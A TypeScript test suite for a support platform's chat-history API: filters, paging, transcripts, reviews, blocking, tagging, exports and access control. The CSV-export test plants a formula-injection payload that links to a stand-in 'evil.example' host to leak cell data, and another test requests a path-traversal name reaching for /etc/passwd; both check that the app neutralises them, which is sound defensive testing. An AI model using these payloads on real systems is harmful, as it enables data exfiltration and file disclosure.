/** Chat history calls (§7): filters, the filtered load-more list, the transcript and the chat actions. */
import { WHATSAPP_NOT_CONFIGURED } from '@switchboard/contracts/whatsapp/whatsapp.templates';
import { randomUUID } from 'node:crypto';
import { asc, eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeEach, expect, it } from 'vitest';
import { THRESHOLDS } from '@switchboard/contracts/common/constants';
import {
  chatLogDataSchema, filtersDataSchema, filtersQueryDataSchema, HISTORY_PATHS, HISTORY_TEXTS, type ChatLogSummary, type FiltersQueryBody,
} from '@switchboard/contracts/history/history.schemas';
import { TEXTS } from '@switchboard/contracts/common/texts';
import { chatMessages } from '@/db/schema/chat-messages';
import { chatTags } from '@/db/schema/chat-tags';
import { readCsv } from '@/lib/csv';
import { HISTORY_CHAT_COUNT, HISTORY_CONVERSATIONS } from '@/seed/history-seed';
import { describeBackends } from '@/testing/backends';
import { callerFor, dataOf, denyRoute, seedTestHistory, type Caller } from './history.test-kit';

const day = (msAgo: number) => new Date(Date.now() - msAgo).toISOString().slice(0, 10);
const DAY = 86_400_000;
/** Every seeded chat (the oldest is under 5 days old). */
const wholeRange = { startDate: day(10 * DAY), endDate: day(0) };

describeBackends('chat history', (context) => {
  let qa: Caller;
  let agentIds: string[];
  beforeEach(async () => {
    agentIds = await seedTestHistory(context.database.db);
    qa = await callerFor(context.app, 'qa@demo.brand');
  });

  async function query(body: FiltersQueryBody, caller = qa) {
    const response = await caller.call('POST', HISTORY_PATHS.filtersQuery, body);
    expect(response.statusCode, response.body).toBe(200);
    return filtersQueryDataSchema.parse(dataOf(response));
  }
  /** Every page of a query, following nextCursor. */
  async function all(body: FiltersQueryBody): Promise<ChatLogSummary[]> {
    const rows: ChatLogSummary[] = [];
    let cursor: string | undefined;
    do {
      const page = await query({ ...body, ...(cursor ? { cursor } : {}) });
      expect(page.chatLogs.length).toBeLessThanOrEqual(15);
      rows.push(...page.chatLogs);
      cursor = page.nextCursor ?? undefined;
      expect(page.hasMore).toBe(cursor !== undefined);
    } while (cursor);
    return rows;
  }
  const withTopic = (topic: string) => HISTORY_CONVERSATIONS.findIndex((conversation) => conversation.topic === topic);
  const expectedCount = (keep: (index: number) => boolean) => Array.from({ length: HISTORY_CHAT_COUNT }, (_, index) => index).filter(keep).length;

  it('answers the filter choices and the defaults (1 day back to today, 30 days at most)', async () => {
    const response = await qa.call('GET', HISTORY_PATHS.filters);
    expect(response.statusCode, response.body).toBe(200);
    const data = filtersDataSchema.parse(dataOf(response));
    expect(data.defaults).toEqual({ startDate: day(DAY), endDate: day(0) });
    expect(data.maxRangeDays).toBe(THRESHOLDS.allowedDateRangeDays);
    expect(data.pageSize).toBe(15);
    expect(data.reviewStatuses).toEqual(['All', 'Passed', 'Failed']);
    expect(data.agents.map((agent) => agent.name)).toEqual(expect.arrayContaining(['Alice Agent', 'Bob Agent']));
    // The brand's tags (/members/tags) and every tag used on a chat lately, once each.
    const brandTags = (await context.database.db.select({ name: chatTags.name }).from(chatTags)).map((tag) => tag.name);
    const used = HISTORY_CONVERSATIONS.flatMap((conversation) => conversation.tags);
    expect(brandTags.length).toBeGreaterThan(0);
    expect([...data.tags].sort()).toEqual([...new Set([...brandTags, ...used])].sort());
  });

  it('pages the whole range newest first, 15 at a time, without repeats', async () => {
    const rows = await all(wholeRange);
    expect(rows).toHaveLength(HISTORY_CHAT_COUNT);
    expect(new Set(rows.map((row) => row.sessionId)).size).toBe(HISTORY_CHAT_COUNT);
    const starts = rows.map((row) => Date.parse(row.startedAt));
    expect(starts).toEqual([...starts].sort((a, b) => b - a));
    expect(rows[0]).toMatchObject({ chatState: 'Resolved', messageCount: expect.any(Number), lastMessage: 'Thank you!' });
  });

  it('filters by a word in the messages, channel, agent, tags, review, blocked and handled by', async () => {
    const parcel = await all({ ...wholeRange, search: 'PARCEL' });
    expect(parcel).toHaveLength(expectedCount((index) => index % HISTORY_CONVERSATIONS.length === withTopic('parcel')));
    expect(await all({ ...wholeRange, search: 'no-such-word-anywhere' })).toEqual([]);

    const billing = await all({ ...wholeRange, tags: ['billing'] });
    expect(billing).toHaveLength(expectedCount((index) => HISTORY_CONVERSATIONS[index % HISTORY_CONVERSATIONS.length]!.tags.includes('billing')));
    expect(billing.every((row) => row.selectedTags.includes('billing'))).toBe(true);
    const both = await all({ ...wholeRange, tags: ['billing', 'refund'] });
    expect(both.every((row) => row.selectedTags.includes('refund'))).toBe(true);
    expect(both.length).toBeLessThan(billing.length);

    const byAgent = await all({ ...wholeRange, handledBy: 'agent' });
    const byBot = await all({ ...wholeRange, handledBy: 'bot' });
    expect(byAgent.length + byBot.length).toBe(HISTORY_CHAT_COUNT);
    expect(byAgent.every((row) => row.handledBy === 'agent' && row.agentName)).toBe(true);
    expect(byBot.every((row) => row.agentId === null)).toBe(true);

    const alices = await all({ ...wholeRange, agentId: agentIds[0]! });
    expect(alices.length).toBeGreaterThan(0);
    expect(alices.every((row) => row.agentId === agentIds[0])).toBe(true);

    expect((await all({ ...wholeRange, reviewStatus: 'Failed' })).every((row) => row.reviewStatus === 'Failed')).toBe(true);
    expect(await all({ ...wholeRange, reviewStatus: 'Passed' })).toHaveLength(expectedCount((index) => index % 5 === 1));
    const blocked = await all({ ...wholeRange, blocked: true });
    expect(blocked.length).toBeGreaterThan(0);
    expect(blocked.every((row) => row.blockedStatus)).toBe(true);
    const wa = await all({ ...wholeRange, channel: 'wa' });
    expect(wa.length).toBeGreaterThan(0);
    expect(wa.every((row) => row.channel === 'wa')).toBe(true);
    // Filters combine.
    const combined = await all({ ...wholeRange, search: 'refund', handledBy: 'agent', tags: ['refund'] });
    expect(combined.length).toBeGreaterThan(0);
    expect(combined.every((row) => row.handledBy === 'agent' && row.selectedTags.includes('refund'))).toBe(true);
  });

  it('keeps the date range: the default day holds only that day\'s chats, an empty range is empty', async () => {
    const recent = await all({ startDate: day(DAY), endDate: day(0) });
    const since = Date.parse(`${day(DAY)}T00:00:00Z`);
    expect(recent.every((row) => Date.parse(row.startedAt) >= since)).toBe(true);
    expect(recent.length).toBe((await all(wholeRange)).filter((row) => Date.parse(row.startedAt) >= since).length);
    expect(await all({ startDate: day(40 * DAY), endDate: day(35 * DAY) })).toEqual([]);
  });

  it('refuses ranges over 30 days, reversed ranges and malformed filters with the field', async () => {
    const bad = async (body: unknown, field: string, message?: string) => {
      const response = await qa.call('POST', HISTORY_PATHS.filtersQuery, body);
      expect(response.statusCode, response.body).toBe(400);
      expect(response.json()).toMatchObject({ field, ...(message ? { message } : {}) });
    };
    await bad({ startDate: day(31 * DAY), endDate: day(0) }, 'endDate', HISTORY_TEXTS.rangeTooLong);
    await bad({ startDate: day(0), endDate: day(DAY) }, 'startDate', HISTORY_TEXTS.rangeReversed);
    await bad({ startDate: '2026-13-01', endDate: day(0) }, 'startDate');
    await bad({ endDate: day(0) }, 'startDate');
    await bad({ ...wholeRange, channel: 'telegram' }, 'channel');
    await bad({ ...wholeRange, reviewStatus: 'Maybe' }, 'reviewStatus');
    await bad({ ...wholeRange, agentId: 'alice' }, 'agentId');
    await bad({ ...wholeRange, tags: 'billing' }, 'tags');
    await bad({ ...wholeRange, cursor: 'not-a-cursor' }, 'cursor');
    const unknownKey = await qa.call('POST', HISTORY_PATHS.filtersQuery, { ...wholeRange, colour: 'red' });
    expect(unknownKey.statusCode).toBe(400);
    // Exactly 30 days is allowed.
    await query({ startDate: day(30 * DAY), endDate: day(0) });
  });

  it('answers the transcript with NLP snapshots and the profile widget; unknown or malformed ids are 404 / 400', async () => {
    const [first] = await all({ ...wholeRange, search: 'warranty' });
    const response = await qa.call('POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId: first!.sessionId });
    expect(response.statusCode, response.body).toBe(200);
    const data = chatLogDataSchema.parse(dataOf(response));
    expect(data.chatLog.sessionId).toBe(first!.sessionId);
    expect(data.messages.map((message) => message.seq)).toEqual(data.messages.map((_, index) => index + 1));
    const customerTurn = data.messages[0]!;
    expect(customerTurn).toMatchObject({ sender: 'customer', NLPSnapshot: { intent: 'handover' } });
    expect(data.messages.at(-1)).toMatchObject({ prevNLPSnapshot: { intent: 'handover' } });
    expect(data.messages.some((message) => message.sender === 'admin')).toBe(true);
    expect(data.userProfileWidget.sections[0]?.sectionTitle).toBe('Customer');

    expect((await qa.call('POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId: randomUUID() })).statusCode).toBe(404);
    const malformed = await qa.call('POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId: 'abc' });
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json()).toMatchObject({ field: 'sessionId' });
  });

  it('saves QA\'s review, which the review filter then finds; Agents may not review', async () => {
    const [chat] = await all({ ...wholeRange, search: 'coupon', reviewStatus: 'All' });
    const saved = await qa.call('POST', HISTORY_PATHS.reviewStatus, { sessionId: chat!.sessionId, reviewStatus: 'Failed' });
    expect(saved.statusCode, saved.body).toBe(200);
    expect(dataOf(saved)).toEqual({ sessionId: chat!.sessionId, reviewStatus: 'Failed' });
    expect((await all({ ...wholeRange, search: 'coupon', reviewStatus: 'Failed' })).map((row) => row.sessionId)).toContain(chat!.sessionId);
    expect((await all({ ...wholeRange, reviewStatus: 'Passed' })).map((row) => row.sessionId)).not.toContain(chat!.sessionId);

    expect((await qa.call('POST', HISTORY_PATHS.reviewStatus, { sessionId: chat!.sessionId, reviewStatus: 'All' })).statusCode).toBe(400);
    expect((await qa.call('POST', HISTORY_PATHS.reviewStatus, { sessionId: randomUUID(), reviewStatus: 'Passed' })).statusCode).toBe(404);
    const agent = await callerFor(context.app, 'agent@demo.brand');
    const refused = await agent.call('POST', HISTORY_PATHS.reviewStatus, { sessionId: chat!.sessionId, reviewStatus: 'Passed' });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ message: TEXTS.forbidden });
  });

  it('saves votes through translateAndSave and voteChatlog with "{vote} success."', async () => {
    const [chat] = await all({ ...wholeRange, search: 'invoice' });
    const transcript = chatLogDataSchema.parse(dataOf(await qa.call('POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId: chat!.sessionId })));
    const botLine = transcript.messages.find((message) => message.sender === 'chatbot')!;
    const translated = await qa.call('POST', HISTORY_PATHS.translateAndSave, { sessionId: chat!.sessionId, chatlogId: botLine.chatlogId, vote: 'upvote', translatedText: 'Ich habe die Rechnung gemailt.' });
    expect(translated.statusCode, translated.body).toBe(200);
    expect(dataOf(translated)).toEqual({ message: 'upvote success.', chatlogId: botLine.chatlogId, psid: chat!.psid, vote: 'upvote', translation: 'Ich habe die Rechnung gemailt.' });
    const voted = await qa.call('PUT', HISTORY_PATHS.voteChatlog, { sessionId: chat!.sessionId, chatlogId: botLine.chatlogId, vote: 'downvote' });
    expect(voted.json()).toMatchObject({ message: 'downvote success.', data: { vote: 'downvote' } });
    const after = chatLogDataSchema.parse(dataOf(await qa.call('POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId: chat!.sessionId })));
    expect(after.messages.find((message) => message.chatlogId === botLine.chatlogId)).toMatchObject({ vote: 'downvote', translation: 'Ich habe die Rechnung gemailt.' });

    expect((await qa.call('PUT', HISTORY_PATHS.voteChatlog, { sessionId: chat!.sessionId, chatlogId: randomUUID(), vote: 'upvote' })).json()).toMatchObject({ message: HISTORY_TEXTS.unknownMessage });
    expect((await qa.call('PUT', HISTORY_PATHS.voteChatlog, { sessionId: randomUUID(), chatlogId: botLine.chatlogId, vote: 'upvote' })).statusCode).toBe(404);
    expect((await qa.call('PUT', HISTORY_PATHS.voteChatlog, { sessionId: chat!.sessionId, chatlogId: botLine.chatlogId, vote: 'meh' })).statusCode).toBe(400);
  });

  it('blocks and unblocks the chat\'s customer, and replaces the tags', async () => {
    const [chat] = await all({ ...wholeRange, search: 'size' });
    const blocked = await qa.call('PUT', HISTORY_PATHS.blockStatus, { sessionId: chat!.sessionId, blockedStatus: true });
    expect(blocked.statusCode, blocked.body).toBe(200);
    expect(dataOf(blocked)).toEqual({ sessionId: chat!.sessionId, blockedStatus: true });
    expect(await context.app.services.liveChat.customers.find(chat!.psid)).toMatchObject({ blocked: true });
    await qa.call('PUT', HISTORY_PATHS.blockStatus, { sessionId: chat!.sessionId, blockedStatus: false });
    expect(await context.app.services.liveChat.customers.find(chat!.psid)).toMatchObject({ blocked: false });
    expect((await qa.call('PUT', HISTORY_PATHS.blockStatus, { sessionId: randomUUID(), blockedStatus: true })).statusCode).toBe(404);
    expect((await qa.call('PUT', HISTORY_PATHS.blockStatus, { sessionId: chat!.sessionId, blockedStatus: 'yes' })).statusCode).toBe(400);

    const tagged = await qa.call('PUT', HISTORY_PATHS.updateTags, { sessionId: chat!.sessionId, selectedTags: ['sizing', 'sizing', 'product'] });
    expect(dataOf(tagged)).toEqual({ sessionId: chat!.sessionId, selectedTags: ['sizing', 'product'] });
    expect((await all({ ...wholeRange, tags: ['sizing'] })).map((row) => row.sessionId)).toEqual([chat!.sessionId]);
    expect((await qa.call('PUT', HISTORY_PATHS.updateTags, { sessionId: chat!.sessionId, selectedTags: [' '] })).statusCode).toBe(400);
    expect((await qa.call('PUT', HISTORY_PATHS.updateTags, { sessionId: randomUUID(), selectedTags: [] })).statusCode).toBe(404);
  });

  it('answers the profile widget with typed facts; a form widget acted on from history is stored (issue 23)', async () => {
    const [chat] = await all({ ...wholeRange, search: 'parcel', channel: 'website' });
    const response = await qa.call('POST', HISTORY_PATHS.userProfileWidgets, { sessionId: chat!.sessionId });
    expect(response.statusCode, response.body).toBe(200);
    const { userProfileWidget } = dataOf<{ userProfileWidget: { sections: Array<{ data: Array<{ type: string }> }> } }>(response);
    expect(userProfileWidget.sections.flatMap((section) => section.data.map((item) => item.type))).toContain('datetime');
    const mismatch = await qa.call('POST', HISTORY_PATHS.userProfileWidgets, { sessionId: chat!.sessionId, id: 'w1', updatedFormData: { buttonIndex: 0, id: 'b1' } });
    expect([mismatch.statusCode, mismatch.json<{ field?: string }>().field]).toEqual([400, 'id']);
    const form = await qa.call('POST', HISTORY_PATHS.userProfileWidgets, { sessionId: chat!.sessionId, id: 'identityCheck', updatedFormData: { buttonIndex: 1, id: 'identityCheck' } });
    expect(form.statusCode, form.body).toBe(200);
    const checked = dataOf<{ userProfileWidget: { sections: Array<{ sectionTitle: string; data: Array<{ subTitle: string; value: string }> }> } }>(form);
    expect(checked.userProfileWidget.sections.find((section) => section.sectionTitle === 'Identity check')?.data[0]).toMatchObject({ subTitle: 'Status', value: 'Not verified' });
    expect((await qa.call('POST', HISTORY_PATHS.userProfileWidgets, { sessionId: randomUUID() })).statusCode).toBe(404);
  });

  it("writes a customer's formula into the transcript CSV as inert text (OWASP CSV injection)", async () => {
    const [chat] = await all({ ...wholeRange, search: 'refund', handledBy: 'agent' });
    // The chat's two customer messages, then its first agent message (a formula on a second line too).
    const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)', '=1+1\nsecond line'];
    const lines = await context.database.db.select({ chatlogId: chatMessages.chatlogId, sender: chatMessages.sender }).from(chatMessages)
      .where(eq(chatMessages.sessionId, chat!.sessionId)).orderBy(asc(chatMessages.seq));
    const targets = [...lines.filter((line) => line.sender === 'customer').slice(0, 2), lines.find((line) => line.sender === 'admin')];
    for (const [index, text] of hostile.entries()) {
      expect(targets[index], `message ${index}`).toBeDefined();
      await context.database.db.update(chatMessages).set({ content: { text } }).where(eq(chatMessages.chatlogId, targets[index]!.chatlogId));
    }
    const csv = await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'csv' });
    const file = await qa.call('GET', dataOf<{ downloadUrl: string }>(csv).downloadUrl);
    const messages = readCsv(file.body).slice(1).map((row) => row.cells[4]);
    expect(messages).toEqual(expect.arrayContaining([`'${hostile[0]}`, `'${hostile[1]}`, `'${hostile[2]}`]));
    // Every cell a spreadsheet would run as a formula starts with the quote instead.
    const cells = readCsv(file.body).flatMap((row) => row.cells);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(file.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
  });

  it('downloads a transcript as a real CSV and XLSX file behind the session', async () => {
    const [chat] = await all({ ...wholeRange, search: 'refund', handledBy: 'agent' });
    const csv = await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'csv' });
    expect(csv.statusCode, csv.body).toBe(200);
    const { downloadUrl } = dataOf<{ downloadUrl: string }>(csv);
    const file = await qa.call('GET', downloadUrl);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toContain('text/csv');
    const lines = file.body.trim().split('\r\n');
    expect(lines[0]).toBe('Time,Sender,Name,Type,Message,Intent,Confidence,Vote');
    // A byte-order mark first (the body's decoder drops it), so Excel reads non-ASCII names as UTF-8.
    expect([...file.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.body).toContain('I am still waiting for my refund.');
    expect(file.body).toContain(',handover,');
    expect((await context.app.inject({ method: 'GET', url: downloadUrl })).statusCode).toBe(401);

    const xlsx = await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'xlsx' });
    const xlsxFile = await qa.call('GET', dataOf<{ downloadUrl: string }>(xlsx).downloadUrl);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsxFile.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Chat log')!;
    expect(sheet.getRow(2).getCell(5).value).toBe('I am still waiting for my refund.');

    expect((await qa.call('GET', `${HISTORY_PATHS.chatlogFile.replace(':fileName', 'chatlog-00000000-0000-0000-0000-000000000000.csv')}`)).statusCode).toBe(404);
    expect((await qa.call('GET', HISTORY_PATHS.chatlogFile.replace(':fileName', '..%2F..%2Fetc%2Fpasswd'))).statusCode).toBe(404);
    expect((await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: randomUUID() })).statusCode).toBe(404);
    expect((await qa.call('POST', HISTORY_PATHS.downloadChatlog, { sessionId: chat!.sessionId, format: 'pdf' })).statusCode).toBe(400);
  });

  it('answers 412 "not connected" for a template from history when the brand has no WhatsApp number, 404 for an unknown chat', async () => {
    const [chat] = await all({ ...wholeRange, search: 'refund', handledBy: 'agent' });
    const response = await qa.call('POST', HISTORY_PATHS.sendTemplateFromChatHistory, { sessionId: chat!.sessionId, templateName: 'order_update', language: 'en' });
    expect(response.statusCode).toBe(412);
    expect(response.json()).toMatchObject({ message: WHATSAPP_NOT_CONFIGURED });
    expect((await qa.call('POST', HISTORY_PATHS.sendTemplateFromChatHistory, { sessionId: randomUUID(), templateName: 'order_update', language: 'en' })).statusCode).toBe(404);
  });

  it('refuses every history call to a role without the History route, and anonymous callers', async () => {
    await denyRoute(context.database.db, 'QA', '/history');
    // A fresh app: the current one caches QA's permissions from the sign-in in beforeEach.
    const app = await context.buildApp();
    const refused = await callerFor(app, 'qa@demo.brand');
    const sessionId = randomUUID();
    const calls: Array<['GET' | 'POST' | 'PUT', string, unknown]> = [
      ['GET', HISTORY_PATHS.filters, undefined],
      ['POST', HISTORY_PATHS.filtersQuery, wholeRange],
      ['POST', HISTORY_PATHS.chatLogsBySessionId, { sessionId }],
      ['POST', HISTORY_PATHS.reviewStatus, { sessionId, reviewStatus: 'Passed' }],
      ['PUT', HISTORY_PATHS.blockStatus, { sessionId, blockedStatus: true }],
      ['PUT', HISTORY_PATHS.updateTags, { sessionId, selectedTags: [] }],
      ['POST', HISTORY_PATHS.userProfileWidgets, { sessionId }],
      ['POST', HISTORY_PATHS.translateAndSave, { sessionId, chatlogId: sessionId, vote: 'upvote' }],
      ['PUT', HISTORY_PATHS.voteChatlog, { sessionId, chatlogId: sessionId, vote: 'upvote' }],
      ['POST', HISTORY_PATHS.downloadChatlog, { sessionId }],
      ['POST', HISTORY_PATHS.sendTemplateFromChatHistory, { sessionId }],
    ];
    for (const [method, url, payload] of calls) {
      expect((await refused.call(method, url, payload)).statusCode, `${method} ${url}`).toBe(403);
      expect((await app.inject({ method, url, ...(payload ? { payload: payload as object } : {}) })).statusCode, `${method} ${url}`).toBe(401);
    }
  });
});
